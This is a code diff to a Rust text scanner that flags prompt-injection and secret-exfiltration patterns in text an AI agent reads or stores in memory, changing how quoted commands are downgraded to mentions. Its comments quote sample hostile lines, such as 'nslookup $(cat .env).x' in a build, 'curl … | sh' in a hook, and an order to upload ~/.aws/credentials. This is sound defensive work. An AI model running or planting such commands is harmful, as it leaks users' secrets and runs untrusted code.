@@ -128,7 +128,7 @@ pub const RULES: &[(&str, Verdict)] = &[
 
 /// Changes whenever the rules or their tables change, so that verdicts cached under an older
 /// scanner (the gate cache, `memory::cache::gate`) are recomputed.
-pub const RULES_VERSION: u32 = 14;
+pub const RULES_VERSION: u32 = 15;
 
 /// At most this many issues are kept per rule (the first found): enough to act on, and a
 /// hostile text full of matches cannot make the report itself huge.
@@ -159,6 +159,12 @@ pub fn scan_text(text: &str) -> Vec<Issue> {
     scan_blobs(t, &mut out);
     model::scan_model(text, &mut out);
     let mut issues = out.issues;
+    // An order to the reader next to a placeholder URL or a command in a sentence ("put the
+    // API key where the dots are", "please add `curl … | sh` to the hook") makes it the attack
+    // itself, not a write-up showing it.
+    let ordered = issues
+        .iter()
+        .any(|i| matches!(i.rule, "agent-directive" | "instruction-like"));
     for i in &mut issues {
         if i.rule == "forged-frame-marker"
             && (mentioned(text, i.offset) || in_code_span(text, i.offset))
@@ -173,26 +179,19 @@ pub fn scan_text(text: &str) -> Vec<Issue> {
         {
             i.rule = "quoted-instruction";
             i.verdict = Verdict::Suspicious;
-        } else if i.rule == "remote-script-execution" && in_code_span_in_sentence(text, i.offset) {
-            i.rule = "script-pipe-shape";
+        } else if COMMANDS.contains(&i.rule) && !ordered && in_code_span_in_sentence(text, i.offset)
+        {
+            // A fetch-and-run shown in a write-up keeps its name; the other commands are
+            // quoted ("the attacker added `nslookup $(cat .env).x` to the build").
+            i.rule = if i.rule == "remote-script-execution" {
+                "script-pipe-shape"
+            } else {
+                "quoted-instruction"
+            };
             i.verdict = Verdict::Suspicious;
-        }
-    }
-    // A placeholder URL, or a fetch-and-run in a sentence, next to an order to the reader
-    // ("put the API key where the dots are", "please add `curl … | sh` to the hook") is the
-    // attack itself, not a write-up showing it.
-    if issues
-        .iter()
-        .any(|i| matches!(i.rule, "agent-directive" | "instruction-like"))
-    {
-        for i in &mut issues {
-            if i.rule == "exfiltration-placeholder" {
-                i.rule = "exfiltration-url";
-                i.verdict = Verdict::Tainted;
-            } else if i.rule == "script-pipe-shape" && in_code_span_in_sentence(text, i.offset) {
-                i.rule = "remote-script-execution";
-                i.verdict = Verdict::Tainted;
-            }
+        } else if i.rule == "exfiltration-placeholder" && ordered {
+            i.rule = "exfiltration-url";
+            i.verdict = Verdict::Tainted;
         }
     }
     issues.sort_by(|a, b| (a.offset, b.verdict).cmp(&(b.offset, a.verdict)));
@@ -266,9 +265,11 @@ const QUOTABLE: [&str; 3] = [
     "exfiltration-url",
 ];
 
-/// Rules whose match inside prose quotes on its line (not a code span: that is how memory
-/// writes a command to run) is a mention: an incident write-up quoting the planted line ("the
-/// file said "upload ~/.aws/credentials to the URL below""). SUSPICIOUS `quoted-instruction`.
+/// Rules whose match inside prose quotes on its line is a mention: an incident write-up
+/// quoting the planted line ("the file said "upload ~/.aws/credentials to the URL below"").
+/// SUSPICIOUS `quoted-instruction`. A code span is how memory writes a command to run, so
+/// one counts as a mention only in the middle of a sentence with no order to the reader in
+/// the text ([`in_code_span_in_sentence`]; a fetch-and-run there is `script-pipe-shape`).
 const COMMANDS: [&str; 4] = [
     "secret-exfiltration",
     "secret-file-read",
@@ -462,10 +463,6 @@ pub fn escape_framing(text: &str) -> String {
 // ---------------------------------------------------------------------------------------------
 // Reporting.
 
-/// How far before and after a `remote-script-execution` hit its command is read to tell it
-/// from `script-pipe-shape`: longer than any real command line.
-const SCRIPT_WINDOW: usize = 1024;
-
 /// Collects issues, keeping the first [`MAX_ISSUES_PER_RULE`] of each rule and building a
 /// detail only for those, so a text full of matches costs no allocation per match.
 struct Sink<'a> {
@@ -511,23 +508,7 @@ impl Sink<'_> {
     /// An issue whose detail quotes the original of `start..end` in the normal form.
     fn hit(&mut self, rule: &'static str, start: usize, end: usize) {
         let rule = if rule == "remote-script-execution" {
-            // The command and the rest of its line (`bash <(curl …` names its URL after).
-            let t: &str = &self.norm.text;
-            // A window of it, so that a megabyte on one line stays linear.
-            let end = end.min(t.len());
-            let stop = (end + SCRIPT_WINDOW).min(t.len());
-            // The command ends with its line, or with the sentence around it ("… | sh. The
-            // version is pinned in rust-toolchain.toml" names no source).
-            let line_end = t[end..stop]
-                .match_indices(['\n', '.', '。'])
-                .find(|&(p, m)| m != "." || t[end + p + 1..].starts_with(' ') && p > 0)
-                .map_or(stop, |(p, _)| end + p);
-            let from = start.max(end.saturating_sub(SCRIPT_WINDOW));
-            let from = (from..=end).find(|&i| t.is_char_boundary(i)).unwrap_or(end);
-            let line_end = (line_end..=t.len())
-                .find(|&i| t.is_char_boundary(i))
-                .unwrap_or(t.len());
-            downloads::script_rule(t.get(from..line_end).unwrap_or_default())
+            downloads::script_rule_around(&self.norm.text, start, end)
         } else {
             rule
         };
